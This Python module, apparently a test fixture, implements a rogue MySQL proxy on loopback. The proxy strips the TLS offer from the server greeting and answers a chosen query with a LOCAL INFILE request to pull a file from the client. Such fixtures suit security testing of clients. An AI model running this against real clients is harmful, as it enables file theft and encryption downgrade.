"""A database server that asks its clients for files: a real one with a thief in between."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress

_QUERY = b"\x03"
_LOCAL_INFILE = b"\xfb"
_TLS = 0x0800
"""The bit of the greeting's lower capabilities by which a server offers TLS."""


class Rogue:
    """Relays to a server on loopback; answers the first statement that begins so by a request.

    Attributes
    ----------
    asked
        Whether a file was asked for.
    stolen
        What came.
    """

    def __init__(self, port: int, file: str, statement: bytes) -> None:
        self.server_port, self.file, self.statement = port, file.encode(), statement
        self.asked, self.stolen = False, b""
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = int(self.listener.getsockname()[1])

    def run(self) -> None:
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self.serve, args=(client,), daemon=True).start()

    def serve(self, client: socket.socket) -> None:
        with suppress(EOFError, OSError), client, self.server() as server:
            client.sendall(_without_tls(_packet(server)[1]))
            threading.Thread(target=_copy, args=(server, client), daemon=True).start()
            while True:
                body, packet = _packet(client)
                begins = body[:1] == _QUERY and body[1:].lstrip().startswith(self.statement)
                if begins and not self.asked:
                    self.steal(client)
                server.sendall(packet)

    def server(self) -> socket.socket:
        return socket.create_connection(("127.0.0.1", self.server_port))

    def steal(self, client: socket.socket) -> None:
        self.asked = True
        request = _LOCAL_INFILE + self.file
        client.sendall(len(request).to_bytes(3, "little") + b"\x01" + request)
        while part := _packet(client)[0]:
            self.stolen += part


def _without_tls(greeting: bytes) -> bytes:
    """Offer no TLS, as a thief does: clients that do not insist go on without."""
    # Header, version of the protocol and of the server with its NUL, thread, salt and a filler.
    place = greeting.index(b"\0", 5) + 1 + 4 + 8 + 1
    offered = int.from_bytes(greeting[place : place + 2], "little") & ~_TLS
    return greeting[:place] + offered.to_bytes(2, "little") + greeting[place + 2 :]


def _packet(connection: socket.socket) -> tuple[bytes, bytes]:
    header = _exactly(connection, 4)
    body = _exactly(connection, int.from_bytes(header[:3], "little"))
    return body, header + body


def _exactly(connection: socket.socket, octets: int) -> bytes:
    whole = b""
    while len(whole) < octets:
        part = connection.recv(octets - len(whole))
        if not part:
            raise EOFError
        whole += part
    return whole


def _copy(source: socket.socket, target: socket.socket) -> None:
    with suppress(OSError):
        while part := source.recv(65536):
            target.sendall(part)
        target.shutdown(socket.SHUT_RDWR)


@contextmanager
def rogue_between(port: int, file: str, statement: bytes) -> Iterator[Rogue]:
    """Have one between clients of `rogue.port` and a server."""
    rogue = Rogue(port, file, statement)
    thread = threading.Thread(target=rogue.run, daemon=True)
    thread.start()
    try:
        yield rogue
    finally:
        rogue.listener.shutdown(socket.SHUT_RDWR)
        rogue.listener.close()
        thread.join(10)
